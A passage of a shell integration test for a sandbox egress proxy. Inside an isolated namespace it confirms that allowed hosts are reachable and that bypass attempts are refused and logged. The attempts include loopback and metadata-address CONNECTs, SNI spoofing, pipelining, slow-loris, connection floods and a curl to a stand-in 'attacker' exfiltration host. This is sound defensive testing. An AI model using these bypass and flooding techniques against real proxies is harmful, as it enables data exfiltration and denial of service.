#!/bin/sh
# The egress proxy end to end: a real run's command steps, in a real
# sandbox, reach an allowed test host only through egress, and everything
# else is refused with its reason and nothing reaching the target.
#
# The whole test runs in a network and mount namespace of its own (it
# re-executes itself under unshare): the daemon, its database, the test
# host (a dummy interface on 10.77.0.0/24, opened with allow_cidrs) and the
# test's own clients; test names resolve through a hosts file bound over
# /etc/hosts in that mount namespace.  No traffic leaves it.
if [ -z "$AGRIPPA_EGRESS_NS" ]; then
	[ "$(id -u)" = 0 ] || { echo "1..0 # SKIP egress_proxy: needs root"; exit 0; }
	AGRIPPA_EGRESS_NS=1 exec unshare -n -m --propagation private sh "$0" "$@"
fi
. tests/integration/lib.sh
. tests/integration/git_lib.sh
need_root egress_proxy
ip link set lo up
# the test host's private range: on a dummy interface, or where the kernel
# has no dummy driver on this namespace's own loopback (still private to it)
if ip link add dummy0 type dummy 2>/dev/null; then
	ip addr add 10.77.0.1/24 dev dummy0 && ip addr add 10.77.0.2/24 dev dummy0 &&
		ip link set dummy0 up
else
	ip addr add 10.77.0.1/24 dev lo && ip addr add 10.77.0.2/24 dev lo
fi
make_env
trap 'kill $SRV $TLS_PID $DNS_PID ${HOLE:-} 2>/dev/null; stop_git_server; cleanup_env' EXIT
cat >"$T/hosts" <<EOH
127.0.0.1 localhost
10.77.0.1 allowed.test evil-allowed.test allowed.test.evil.test denied.test
10.77.0.2 git.test blackhole.test
10.78.0.1 out.test
::1 v6.test
127.0.0.1 loop.test
169.254.169.254 meta.test
10.77.0.2 multi.test
10.77.0.1 multi.test
EOH
chmod 0644 "$T/hosts"
mount --bind "$T/hosts" /etc/hosts
cat >>"$CONF" <<EOC
engine: { concurrency: 4, lease: 5, sweep: 1 }
egress: { allow_cidrs: [ 10.77.0.0/24 ], tunnels_per_run: 8 }
EOC

# the test host: plain HTTP on 10.77.0.1:8080, logging every request line
mkdir -p "$T/www" && echo "hello from allowed.test" >"$T/www/hello"
# a plain-HTTP answer large enough to take many splices, its bytes random
head -c 3145728 /dev/urandom >"$T/www/whole3m"
WHOLE3M_SUM=$(sha256sum <"$T/www/whole3m" | cut -d' ' -f1)
(cd "$T/www" && exec python3 -m http.server --bind 10.77.0.1 8080) >"$T/www.log" 2>&1 &
SRV=$!
wait_for 10 sh -c "curl -s --noproxy '*' http://10.77.0.1:8080/hello | grep -q hello"
check "the test host answers inside the test's namespace" [ $? -eq 0 ]

# the TLS test host on 10.77.0.1:443 (tests/fakes/egress_host.py) serving
# $T/www too, with a throwaway CA the sandbox's clients are given; it logs
# every connection it accepts, before the handshake
check "a throwaway CA and a certificate for the test names" \
	make_ca DNS:allowed.test,DNS:git.test,DNS:denied.test,DNS:evil-allowed.test
python3 "$ROOT/tests/fakes/egress_host.py" --bind 10.77.0.1 --root "$T/www" \
	--cert "$T/tls/srv.crt" --key "$T/tls/srv.key" --log "$T/tls.log" \
	--ready "$T/tls.ready" >"$T/tls.out" 2>&1 &
TLS_PID=$!
touch "$T/tls.log"
check "the TLS test host listens" wait_for 10 test -e "$T/tls.ready"
# a tiny package index under $T/www/simple with one wheel made here
mkdir -p "$T/www/simple/tinypkg" "$T/www/packages"
python3 - "$T/www/packages/tinypkg-0.1-py3-none-any.whl" <<'EOP'
import sys, zipfile
files = {
    "tinypkg/__init__.py": "VERSION = '0.1'\n",
    "tinypkg-0.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: tinypkg\nVersion: 0.1\n",
    "tinypkg-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
record = "".join(f"{n},,\n" for n in files) + "tinypkg-0.1.dist-info/RECORD,,\n"
with zipfile.ZipFile(sys.argv[1], "w") as z:
    for n, t in files.items():
        z.writestr(n, t)
    z.writestr("tinypkg-0.1.dist-info/RECORD", record)
EOP
printf '<a href="/packages/tinypkg-0.1-py3-none-any.whl">tinypkg-0.1-py3-none-any.whl</a>\n' \
	>"$T/www/simple/tinypkg/index.html"
printf '<a href="/simple/tinypkg/">tinypkg</a>\n' >"$T/www/simple/index.html"
# a tiny npm registry: tinynpm's tarball made by npm pack, its packument
# (served at /tinynpm) naming the tarball with its digests
mkdir -p "$T/npmsrc" "$T/www/tarballs"
printf '{"name": "tinynpm", "version": "1.0.0", "main": "index.js"}\n' >"$T/npmsrc/package.json"
printf 'exports.hello = "hello from tinynpm";\n' >"$T/npmsrc/index.js"
(cd "$T/www/tarballs" && npm_config_cache="$T/npmcache" npm pack --silent "$T/npmsrc") >"$T/npmpack.out" 2>&1
check "npm pack made the test package" test -s "$T/www/tarballs/tinynpm-1.0.0.tgz"
python3 - "$T/www/tarballs/tinynpm-1.0.0.tgz" "$T/www/tinynpm.json" <<'EOP'
import base64, hashlib, json, sys
data = open(sys.argv[1], "rb").read()
v = {"name": "tinynpm", "version": "1.0.0", "main": "index.js",
     "dist": {"tarball": "https://allowed.test/tarballs/tinynpm-1.0.0.tgz",
              "shasum": hashlib.sha1(data).hexdigest(),
              "integrity": "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()}}
json.dump({"name": "tinynpm", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": v}},
          open(sys.argv[2], "w"))
EOP
# git.test: the fake git server (git http-backend over TLS) on 10.77.0.2:443
mkdir -p "$T/srv" && printf '%s\n' gittoken >"$T/srv/token" && chmod 0600 "$T/srv/token"
"$TOOLS/mkrepo" "$T/gitsrc" >/dev/null && git clone -q --bare "$T/gitsrc" "$T/srv/r.git"
python3 "$ROOT/tests/fakes/git_https.py" --bind 10.77.0.2 --port 443 --root "$T/srv" \
	--cert "$T/tls/srv.crt" --key "$T/tls/srv.key" --token-file "$T/srv/token" \
	--log "$T/git.log" --ports "$T/git.ports" >"$T/git.out" 2>&1 &
SRV_PID=$!
check "the git test host listens" wait_for 10 test -s "$T/git.ports"

# the daemon's name server: 10.77.0.1:53 in this namespace, which logs
# every query and answers NXDOMAIN; a name off the list must never get here
python3 - "$T/dns.log" >"$T/dns.out" 2>&1 <<'EOP' &
import socket, sys
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind(("10.77.0.1", 53))
while True:
    q, peer = u.recvfrom(512)
    labels, i = [], 12
    while i < len(q) and q[i]:
        labels.append(q[i + 1:i + 1 + q[i]].decode("latin-1"))
        i += 1 + q[i]
    with open(sys.argv[1], "a", encoding="utf-8") as f:
        f.write(".".join(labels) + "\n")
    u.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\0\0\0\0\0\0" + q[12:i + 5], peer)
EOP
DNS_PID=$!
printf 'nameserver 10.77.0.1\n' >"$T/resolv.conf" && chmod 0644 "$T/resolv.conf"
mount --bind "$T/resolv.conf" /etc/resolv.conf
start_daemon_or_finish egress_proxy
check "egress is running" [ -n "$(child_pid egress)" ]
check "egress is chrooted" [ "$(readlink "/proc/$(child_pid egress)/root")" = "$T/empty" ]

MKREPO="$TOOLS/mkrepo"
mkdir -p "$T/repos" "$T/tmpl" && chmod 0755 "$T/repos"
"$MKREPO" "$T/repos/clean" >/dev/null && chmod -R a+rX "$T/repos"
tmpl() {
	{
		printf 'name: %s\nversion: 1\n' "$1"
		printf 'params:\n  repo: { type: repoRef, required: true }\n'
		printf 'workspace: { repo: "${params.repo}", access: readWrite }\n'
		cat
	} >"$T/tmpl/$1.yaml"
	ctl template load "$T/tmpl/$1.yaml"
}
tmpl net <<'EOF'
network: { allow: [ "allowed.test:8080", "loop.test:8080", "meta.test:8080", "multi.test:8080" ] }
phases:
  - name: one
    steps:
      - { id: get, kind: command, run: "curl -sS --max-time 10 http://allowed.test:8080/hello" }
      - { id: env, kind: command, run: "env | grep -i _proxy | sort; echo $JAVA_TOOL_OPTIONS" }
      - { id: notlisted, kind: command, allow_failure: true, run: "curl -sS --max-time 10 http://other.test:8080/x; curl -sS --max-time 10 http://allowed.test:9090/x" }
      - { id: loop, kind: command, allow_failure: true, run: "curl -sS --max-time 10 http://loop.test:8080/x; curl -sS --max-time 10 http://meta.test:8080/x" }
      - { id: direct, kind: command, allow_failure: true, run: "curl -sS --noproxy '*' --max-time 5 http://10.77.0.1:8080/hello; echo rc=$?" }
      - { id: override, kind: command, network: { allow: [] }, allow_failure: true, run: "curl -sS --max-time 10 http://allowed.test:8080/hello; echo rc=$?" }
      - { id: py, kind: command, run: "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://allowed.test:8080/hello\").read().decode())'" }
      - { id: multi, kind: command, run: "curl -sS --max-time 10 http://multi.test:8080/hello" }
      - { id: bighttp, kind: command, run: "curl -sS --max-time 20 http://allowed.test:8080/whole3m | sha256sum" }
EOF
tmpl nonet <<'EOF'
phases:
  - name: one
    steps:
      - { id: look, kind: command, run: "cat /proc/net/tcp; env | grep -ci proxy; true" }
EOF
ctl project add p1 && ctl user add alice && ctl member add p1 alice admin
ctl repo add p1 clean "$T/repos/clean" </dev/null
TA=$(new_token alice)
P1=$(psql_q "select id from projects where name = 'p1'")
J='Content-Type: application/json'
submit() {
	RUN=$(curl -s --max-time 10 -H "Authorization: Bearer $TA" -H "$J" \
		--data-binary "{\"template\": \"$1\", \"params\": {\"repo\": \"${2:-clean}\"}}" \
		"http://127.0.0.1:$PORT/v1/projects/$P1/runs" | python3 -c 'import json,sys; print(json.load(sys.stdin)["id"])')
}
run_status() { psql_q "select status from runs where id = '$1'"; }
is_done() { case "$(run_status "$1")" in succeeded|failed|cancelled) return 0;; esac; return 1; }
# out RUN STEP: the step's output
out() { psql_q "select string_agg(payload->>'text', '' order by seq) from run_events where run_id = '$1' and type = 'step.output' and payload->>'step_id' = '$2'"; }
net() { psql_q "select type || ' ' || (payload->>'host') || ':' || (payload->>'port') || ' ' || coalesce(payload->>'reason', payload->>'address') from run_events where run_id = '$1' and type like 'network.%' order by seq"; }
# has ERE TEXT: TEXT has a line matching ERE
has() { printf '%s' "$2" | grep -Eq "$1"; }

submit net
R=$RUN
wait_for 90 is_done "$R"
check "the networked run succeeds ($(run_status "$R"))" [ "$(run_status "$R")" = succeeded ]
net "$R" >"$T/net"
cat "$T/net" | sed 's/^/# /'
check "curl got the test host's page" sh -c "printf '%s' \"\$1\" | grep -q 'hello from allowed.test'" _ "$(out "$R" get)"
check "python urllib got the page through the proxy" sh -c "printf '%s' \"\$1\" | grep -q 'hello from allowed.test'" _ "$(out "$R" py)"
check "the proxy variables are set" sh -c "printf '%s' \"\$1\" | grep -q 'HTTPS_PROXY=http://127.0.0.1:3128' && printf '%s' \"\$1\" | grep -q 'NODE_USE_ENV_PROXY=1' && printf '%s' \"\$1\" | grep -q 'no_proxy=localhost,127.0.0.1,::1' && printf '%s' \"\$1\" | grep -q 'https.proxyPort=3128'" _ "$(out "$R" env)"
check "network.allowed names the host and the address" grep -q '^network.allowed allowed.test:8080 10.77.0.1:8080$' "$T/net"
check "network.closed is recorded" grep -q '^network.closed allowed.test:8080 10.77.0.1:8080$' "$T/net"
check "a name not on the list: denied, not on the list" grep -q '^network.denied other.test:8080 not on the list$' "$T/net"
check "an allowed name on another port: denied" grep -q '^network.denied allowed.test:9090 not on the list$' "$T/net"
check "an allowed name resolving to 127.0.0.1: denied as loopback" grep -q '^network.denied loop.test:8080 resolves to 127.0.0.1:8080: loopback' "$T/net"
check "an allowed name resolving to 169.254.169.254: denied" grep -q '^network.denied meta.test:8080 resolves to 169.254.169.254:8080' "$T/net"
check "a direct connection fails (no route)" sh -c "printf '%s' \"\$1\" | grep -q 'rc=7'" _ "$(out "$R" direct)"
check "a step's empty network replaces the template's: denied" sh -c "printf '%s' \"\$1\" | grep -q 'egress: not on the list'" _ "$(out "$R" override)"
# multi.test: 10.77.0.2 first, where nothing listens on 8080, then 10.77.0.1
check "a name's first address refusing: the next checked one is connected to" \
	sh -c "printf '%s' \"\$1\" | grep -q 'hello from allowed.test'" _ "$(out "$R" multi)"
check "network.allowed names the address that answered" grep -q '^network.allowed multi.test:8080 10.77.0.1:8080$' "$T/net"
check "egress tried the first address before it" \
	grep -q 'multi.test:8080: connect to 10.77.0.2:8080: .*; trying the next address' "$LOG"
# the test's own readiness probe, curl's, urllib's and multi.test's requests
check "the test host saw the allowed requests" [ "$(grep -c 'GET /hello' "$T/www.log")" = 4 ]
check "the test host saw none of the denied ones" sh -c "! grep -q 'GET /x' '$T/www.log'"

# step.finished carries the step's network totals
fin() { psql_q "select payload->'network' from run_events where run_id = '$1' and type = 'step.finished' and payload->>'step_id' = '$2' order by seq desc limit 1"; }
fin "$R" get | sed 's/^/# get: /'
fin "$R" notlisted | sed 's/^/# notlisted: /'
netof() { fin "$1" "$2" | python3 -c 'import json, sys; n = json.load(sys.stdin); print(n["allowed"], n["denied"], n["bytes_up"], n["bytes_down"])'; }
first_closed=$(psql_q "select (payload->>'bytes_up') || ' ' || (payload->>'bytes_down') from run_events where run_id = '$R' and type = 'network.closed' and payload->>'host' = 'allowed.test' order by seq limit 1")
check "step.finished of a step with one tunnel: 1 allowed, 0 denied, its bytes as network.closed counted them ($first_closed)" \
	[ "$(netof "$R" get)" = "1 0 $first_closed" ]
check "the tunnel's bytes both ways are there" sh -c '[ "${1% *}" -gt 50 ] && [ "${1#* }" -gt 200 ]' _ "$first_closed"
check "a 3 MiB plain-HTTP answer (spliced) arrives whole" has "^$WHOLE3M_SUM " "$(out "$R" bighttp)"
check "its bytes are counted ($(netof "$R" bighttp))" \
	sh -c 'set -- $1; [ "$1" = 1 ] && [ "$2" = 0 ] && [ "$3" -gt 50 ] && [ "$4" -gt 3145728 ] && [ "$4" -lt 3150000 ]' _ "$(netof "$R" bighttp)"
check "step.finished of a step refused twice: 0 allowed, 2 denied, no bytes" [ "$(netof "$R" notlisted)" = "0 2 0 0" ]
check "step.finished of a step with an empty list of its own: 1 denied" [ "$(netof "$R" override)" = "0 1 0 0" ]
check "step.finished of a step that used no network: all zero" [ "$(netof "$R" env)" = "0 0 0 0" ]

submit nonet
R2=$RUN
wait_for 60 is_done "$R2"
check "the run without network succeeds" [ "$(run_status "$R2")" = succeeded ]
check "without network: no listener in its sandbox, no proxy variable" \
	sh -c "printf '%s' \"\$1\" | grep -vq ':0C38 ' && printf '%s' \"\$1\" | tail -1 | grep -qx 0" _ "$(out "$R2" look)"
check "without network: no network event" [ "$(psql_q "select count(*) from run_events where run_id = '$R2' and type like 'network.%'")" = 0 ]
check "without network: step.finished has no network totals" \
	[ "$(psql_q "select count(*) from run_events where run_id = '$R2' and type = 'step.finished' and payload ? 'network'")" = 0 ]
st=$("$AGRIPPACTL" -s "$CTL" status)
check "agrippactl status lists egress running" sh -c "echo '$st' | grep -q '^egress .* running'"
check "agrippactl status shows the egress line" sh -c "echo '$st' | grep -q '^egress: [0-9]* runs with a network, [0-9]* tunnels open'"


# ---- attacks, each from inside a sandbox (tests/tools/egress_probe.py) ----
git clone -q "$T/repos/clean" "$T/repos/attack"
cp "$T/tls/ca.crt" "$ROOT/tests/tools/egress_probe.py" "$T/repos/attack/"
git -C "$T/repos/attack" add ca.crt egress_probe.py
git -C "$T/repos/attack" -c user.name=t -c user.email=t@t commit -qm attack
chmod -R a+rX "$T/repos/attack"
ctl repo add p1 attack "$T/repos/attack" </dev/null
LIST='network: { allow: [ "allowed.test", "allowed.test:8080", "out.test", "v6.test", "git.test", "nores.test" ] }'
# steps_tmpl NAME: a template with LIST and one phase of the steps on stdin
steps_tmpl() {
	{ printf '%s\nphases:\n  - name: one\n    steps:\n' "$LIST"; cat; } | tmpl "$1"
}
steps_tmpl atk <<'EOF'
      - { id: tls, kind: command, run: "curl -sS --max-time 10 --cacert ca.crt https://allowed.test/hello" }
      - id: names
        kind: command
        allow_failure: true
        run: |
          python3 egress_probe.py raw 'CONNECT evil-allowed.test:443 HTTP/1.0\r\n\r\n'
          python3 egress_probe.py raw 'CONNECT allowed.test.evil.test:443 HTTP/1.0\r\n\r\n'
      - id: literals
        kind: command
        allow_failure: true
        run: |
          for t in 127.0.0.1 '[::1]' '[::ffff:127.0.0.1]' 2130706433 0x7f.1; do
            python3 egress_probe.py raw "CONNECT $t:443 HTTP/1.0\r\n\r\n"
          done
      - id: resolved
        kind: command
        allow_failure: true
        run: |
          curl -sS --max-time 10 --cacert ca.crt https://out.test/hello; echo rc=$?
          curl -sS --max-time 10 --cacert ca.crt https://v6.test/hello; echo rc=$?
          curl -sS --max-time 10 --cacert ca.crt https://secret-data.attacker.test/; echo rc=$?
          curl -sS --max-time 10 --cacert ca.crt https://nores.test/; echo rc=$?
      - id: heads
        kind: command
        allow_failure: true
        run: |
          python3 egress_probe.py raw 'GET http://user@evil/ HTTP/1.1\r\nHost: evil\r\n\r\n'
          python3 egress_probe.py raw 'GET http://allowed.test:8080/hello HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\nGET http://allowed.test:8080/pipelined HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n'
          python3 egress_probe.py raw 'GET http://allowed.test:8080/first HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n' 'GET http://allowed.test:8080/pipelined2 HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n'
          python3 egress_probe.py raw "GET http://allowed.test:8080/big HTTP/1.1\r\nX-Big: $(head -c 17000 /dev/zero | tr '\0' a)\r\n\r\n"
      - id: tlsdeny
        kind: command
        allow_failure: true
        run: |
          python3 egress_probe.py raw 'CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n' 'GET /plain HTTP/1.1\r\n\r\n'
          openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:443 -noservername -CAfile ca.crt </dev/null >/dev/null 2>&1; echo nosni rc=$?
          curl -sS --max-time 10 --cacert ca.crt --connect-to ::allowed.test: https://denied.test/hello; echo rc=$?
      - id: dns
        kind: command
        allow_failure: true
        run: "python3 egress_probe.py dns; curl -sS --noproxy '*' --max-time 5 --cacert ca.crt https://10.77.0.1/hello; echo rc=$?"
EOF
# run_shown TEMPLATE REPO SECS STEP...: submit it, wait for its end, show
# the steps' output; RUN names it
run_shown() {
	submit "$1" "$2"
	wait_for "$3" is_done "$RUN"
	shift 3
	for s in "$@"; do out "$RUN" "$s" | sed "s/^/# $s: /"; done
}
run_shown atk attack 120 names literals resolved heads tlsdeny dns
R3=$RUN
check "the attack run ends ($(run_status "$R3"))" [ "$(run_status "$R3")" = succeeded ]
net "$R3" >"$T/net3"
sed 's/^/# /' "$T/net3"
sed 's/^/# tls.log: /' "$T/tls.log"
check "curl over TLS through the proxy got the page" sh -c "printf '%s' \"\$1\" | grep -q 'hello from allowed.test'" _ "$(out "$R3" tls)"
tls_closed=$(psql_q "select (payload->>'bytes_up') || ' ' || (payload->>'bytes_down') from run_events where run_id = '$R3' and type = 'network.closed' order by seq limit 1")
check "step.finished of the TLS step counts the spliced tunnel's bytes ($tls_closed)" \
	sh -c '[ "$1" = "1 0 $2" ] && [ "${2#* }" -gt 1000 ]' _ "$(netof "$R3" tls)" "$tls_closed"
denied() { grep -qxF "network.denied $1" "$T/net3"; }
check "evil-allowed.test: not on the list" denied "evil-allowed.test:443 not on the list"
check "allowed.test.evil.test: not on the list" denied "allowed.test.evil.test:443 not on the list"
check "CONNECT 127.0.0.1:443: denied" denied "127.0.0.1:443 not on the list"
check "CONNECT [::1]:443: denied" denied "::1:443 not on the list"
check "CONNECT [::ffff:127.0.0.1]:443: denied" denied "::ffff:127.0.0.1:443 not on the list"
check "CONNECT 2130706433:443 and 0x7f.1:443: not canonical" \
	[ "$(grep -cxF 'network.denied :0 a numeric host that is not a canonical dotted-quad IPv4 address' "$T/net3")" = 2 ]
check "an allowed name resolving to 10.x outside allow_cidrs: denied as private" \
	denied "out.test:443 resolves to 10.78.0.1:443: private (10.0.0.0/8)"
check "an allowed name resolving to ::1: denied as loopback" denied "v6.test:443 resolves to [::1]:443: loopback (::1/128)"
check "a name off the list: denied" denied "secret-data.attacker.test:443 not on the list"
check "an allowed name the name server does not know: denied" has '^network.denied nores.test:443 the name does not resolve' "$(cat "$T/net3")"
# (evdns randomises the case of the names it asks for)
check "the name server was asked for the allowed name only" [ "$(tr A-Z a-z <"$T/dns.log" | sort -u | tr '\n' ' ')" = "nores.test " ]
check "GET http://user@evil/: user information refused" denied ":0 user information in the URL"
check "a pipelined second request in the head: refused" \
	denied ":0 bytes after the request head: one request per connection (pipelining)"
check "a second request sent once the (spliced) answer began: refused" \
	denied "allowed.test:8080 bytes after the request head: one request per connection (pipelining)"
check "an oversize head: refused" denied ":0 a request head larger than 16 KiB"
check "an oversize head: answered 431" has '^HTTP/1.1 431' "$(out "$R3" heads)"
check "plain bytes after CONNECT allowed.test:443: not TLS" denied "allowed.test:443 not a TLS handshake"
check "a ClientHello without SNI: refused" denied "allowed.test:443 no server_name (SNI) in the ClientHello"
check "curl --connect-to (SNI denied.test in a CONNECT allowed.test): refused" \
	denied "allowed.test:443 the TLS server name is not the CONNECT host"
check "openssl s_client -noservername fails" has 'nosni rc=1' "$(out "$R3" tlsdeny)"
check "curl with the mismatched SNI fails" has '^rc=35' "$(out "$R3" tlsdeny)"
check "nothing but the allowed tunnel reached the TLS test host" [ "$(grep -c '^ACCEPT' "$T/tls.log")" = 1 ]
check "no denied request reached the HTTP test host" \
	sh -c "! grep -Eq 'GET /(pipelined|big|plain)' '$T/www.log'"
check "no DNS in the sandbox: a lookup fails" has 'lookup: failed' "$(out "$R3" dns)"
check "no DNS in the sandbox: a UDP query has no route" has 'udp: failed: .*unreachable' "$(out "$R3" dns)"
check "a direct TLS connection bypassing the proxy fails" has '^rc=7' "$(out "$R3" dns)"

# ---- real clients: git clone and pip download ----
steps_tmpl tools <<'EOF'
      - { id: git, kind: command, run: "git -c http.sslCAInfo=/workspace/ca.crt clone -q https://x-access-token:gittoken@git.test/r.git /workspace/cl && git -C /workspace/cl log --oneline" }
      - { id: pip, kind: command, run: "python3 -m pip download --no-cache-dir --disable-pip-version-check --no-deps --cert /workspace/ca.crt --index-url https://allowed.test/simple/ -d /workspace/dl tinypkg && ls /workspace/dl" }
      - id: npm
        kind: command
        run: |
          export npm_config_registry=https://allowed.test/ npm_config_cafile=/workspace/ca.crt npm_config_cache=/tmp/npmcache
          export npm_config_audit=false npm_config_fund=false npm_config_update_notifier=false
          echo "view: $(npm view tinynpm version)"
          mkdir -p /workspace/np && cd /workspace/np && npm install --no-save --no-package-lock tinynpm
          node -e 'console.log(require("tinynpm").hello)'
EOF
run_shown tools attack 120 git pip npm
R4=$RUN
check "git clone and pip download through the proxy ($(run_status "$R4"))" [ "$(run_status "$R4")" = succeeded ]
check "git cloned the test host's repository" has first "$(out "$R4" git)"
check "pip downloaded the wheel" has 'tinypkg-0.1-py3-none-any.whl' "$(out "$R4" pip)"
check "npm view read the packument through the proxy" has '^view: 1.0.0$' "$(out "$R4" npm)"
check "npm install fetched the tarball and the package loads" has '^hello from tinynpm$' "$(out "$R4" npm)"
check "the test host served npm's requests (packument, tarball)" \
	sh -c "grep -q '^GET	/tinynpm	allowed.test' '$T/tls.log' && grep -q '^GET	/tarballs/tinynpm-1.0.0.tgz	allowed.test' '$T/tls.log'"

# ---- kill -9 of egress mid-transfer ----
steps_tmpl slow <<'EOF'
      - id: slow
        kind: command
        run: |
          curl -sS --max-time 60 --cacert ca.crt -o /workspace/slow.out https://allowed.test/slow; echo slow rc=$?
          for i in $(seq 30); do curl -sS --max-time 5 --cacert ca.crt https://allowed.test/hello && break; sleep 1; done
EOF
submit slow attack
R5=$RUN
EG1=""
wait_for 60 grep -q "^GET.*/slow" "$T/tls.log" && sleep 1 && EG1=$(child_pid egress)
check "a slow transfer is in flight" [ -n "$EG1" ]
kill -9 "$EG1"
egress_changed() { p=$(child_pid egress); [ -n "$p" ] && [ "$p" != "$EG1" ]; }
wait_for 30 egress_changed
EG2=$(child_pid egress)
check "egress comes back after kill -9 ($EG1 -> $EG2)" sh -c '[ -n "$1" ] && [ "$1" != "$2" ]' _ "$EG2" "$EG1"
wait_for 90 is_done "$R5"
out "$R5" slow | sed 's/^/# slow: /'
check "the transfer in flight saw a broken connection" sh -c "printf '%s' \"\$1\" | grep 'slow rc=' | grep -qv 'rc=0'" _ "$(out "$R5" slow)"
check "the next connection from the same sandbox works" has 'hello from allowed.test' "$(out "$R5" slow)"

# ---- limits: 1,000 parallel CONNECTs, a slow-loris head ----
steps_tmpl flood <<'EOF'
      - { id: flood, kind: command, run: "python3 egress_probe.py flood 1000 /workspace" }
      - { id: loris, kind: command, run: "python3 egress_probe.py loris" }
      - { id: lorishello, kind: command, run: "python3 egress_probe.py loris-hello" }
EOF
steps_tmpl other <<'EOF'
      - { id: get, kind: command, run: "curl -fsS --max-time 10 http://allowed.test:8080/hello" }
EOF
A0=$(grep -c '^ACCEPT' "$T/tls.log")
submit flood attack
R6=$RUN
# the flood's run holds its tunnels until the test releases them
check "the flood's run holds its tunnels" wait_for 120 test -e "$(run_ws "$R6")/held"
st=$("$AGRIPPACTL" -s "$CTL" status)
echo "$st" | sed 's/^/# status: /'
# (the 8 the flood holds, whether or not the rate limit left their
# network.allowed out of the events: egress counts them all the same)
check "status shows the flood's 8 open tunnels (at least)" has '^egress: [0-9]* runs with a network, ([89]|[1-9][0-9]+) tunnels open' "$st"
# the sandbox's side of the held tunnels, seen from inside its namespace:
# reno (egress/conn.c), not the host's default, which may pace
sbx6=$(sed -n "s/.*run $R6: runner started (pid [0-9]*, sandbox \(sbx-[0-9a-f]*\)).*/\1/p" "$LOG" | tail -n 1)
sbxpid6=$(sed -n "s/.*sandbox $sbx6 started (pid \([0-9]*\),.*/\1/p" "$LOG" | tail -n 1)
tun6=$(nsenter -t "$sbxpid6" -n ss -tn state established '( sport = :3128 )' 2>/dev/null | tail -n +2 | grep -c .)
reno6=$(nsenter -t "$sbxpid6" -n ss -tin state established '( sport = :3128 )' 2>/dev/null | grep -cw reno)
check "the sandbox's side of the $tun6 held tunnels is reno ($reno6; the host's default: $(cat /proc/sys/net/ipv4/tcp_congestion_control))" \
	sh -c '[ "$1" -ge 8 ] && [ "$1" = "$2" ]' _ "$tun6" "$reno6"
submit other
R7=$RUN
wait_for 60 is_done "$R7"
check "another run's tunnel works while they are held ($(run_status "$R7"))" [ "$(run_status "$R7")" = succeeded ]
touch "$(run_ws "$R6")/release"
wait_for 120 is_done "$R6"
out "$R6" flood | sed 's/^/# flood: /'
out "$R6" loris | sed 's/^/# loris: /'
out "$R6" lorishello | sed 's/^/# lorishello: /'
check "1,000 CONNECTs from one run: tunnels_per_run (8) held, the rest refused" \
	has '^ok=8 refused=992' "$(out "$R6" flood)"
check "the refusals name the tunnel limit" [ "$(psql_q "select count(*) from run_events where run_id = '$R6' and payload->>'reason' = 'the run''s tunnel limit (egress.tunnels_per_run) is reached'")" -ge 1 ]
check "egress survived the flood" [ "$(child_pid egress)" = "$EG2" ]
# the rate limit (20 decisions per run and second): the events hold a few
# of the flood's decisions, the next one recorded counts those left out,
# and step.finished counts them all
rec6=$(psql_q "select count(*) from run_events where run_id = '$R6' and type in ('network.allowed', 'network.denied')")
sup6=$(psql_q "select coalesce(sum((payload->>'suppressed')::int), 0) from run_events where run_id = '$R6' and type in ('network.allowed', 'network.denied')")
tot6=$(for s6 in flood loris lorishello; do netof "$R6" "$s6"; done | awk '{ n += $1 + $2 } END { print n }')
check "the flood's decisions are rate-limited in the event log: $rec6 recorded of $tot6" \
	sh -c '[ "$1" -ge 20 ] && [ "$1" -le 120 ] && [ "$2" -ge 1000 ]' _ "$rec6" "$tot6"
check "... the ones left out are counted: recorded $rec6 + suppressed $sup6 = step.finished's $tot6" \
	[ $((rec6 + sup6)) = "$tot6" ]
check "a slow-loris head is answered 408" has '^HTTP/1.1 408' "$(out "$R6" loris)"
check "a slow-loris head is closed at the head timeout (10 s)" has 'closed after (10|11|12)s' "$(out "$R6" loris)"
check "a ClientHello trickled after CONNECT :443 is closed at the head timeout" has 'closed after (10|11|12)s' "$(out "$R6" lorishello)"
check "the trickled ClientHello never reached the TLS test host" [ "$(grep -c '^ACCEPT' "$T/tls.log")" = "$A0" ]
check "its refusal is an event" [ "$(psql_q "select count(*) from run_events where run_id = '$R6' and payload->>'reason' = 'the TLS ClientHello did not come in time'")" = 1 ]
check "the slow-loris refusal is an event" [ "$(psql_q "select count(*) from run_events where run_id = '$R6' and payload->>'reason' = 'the request head did not come in time'")" = 1 ]

# ---- a preset the configuration lacks fails the run at its start ----
tmpl nopreset <<'EOF' || true
network: { presets: [ nosuch ] }
phases:
  - name: one
    steps:
      - { id: look, kind: command, run: "true" }
EOF
sed 's/^/# load: /' "$T/ctl.out"
submit nopreset
R8=$RUN
wait_for 60 is_done "$R8"
psql_q "select type || ' ' || payload::text from run_events where run_id = '$R8' order by seq" | sed 's/^/# nopreset: /'
check "a run naming a missing preset fails ($(run_status "$R8"))" [ "$(run_status "$R8")" = failed ]
check "its failure names the preset" [ "$(psql_q "select count(*) from run_events where run_id = '$R8' and payload::text like '%no preset nosuch in egress.presets%'")" -ge 1 ]
check "no step of it ran" [ "$(psql_q "select count(*) from run_events where run_id = '$R8' and type = 'step.started'")" = 0 ]
# the events land in the order egress reported them: no run's network.closed
# before the network.allowed of its tunnel
psql_q "select run_id, seq, type, payload::text from (select *, sum(case type when 'network.allowed' then 1 when 'network.closed' then -1 else 0 end) over (partition by run_id order by seq) as open from run_events where type like 'network.%') x where open < 0 limit 5" | sed 's/^/# out of order: /'
check "no network.closed is stored before its network.allowed" [ "$(psql_q "select count(*) from (select sum(case type when 'network.allowed' then 1 when 'network.closed' then -1 else 0 end) over (partition by run_id order by seq) as open from run_events where type like 'network.%') x where open < 0")" = 0 ]

# ---- a reload (SIGHUP) applies new egress settings to the runs after it ----
tmpl reloaded <<'EOF' || true
network: { presets: [ reloaded ] }
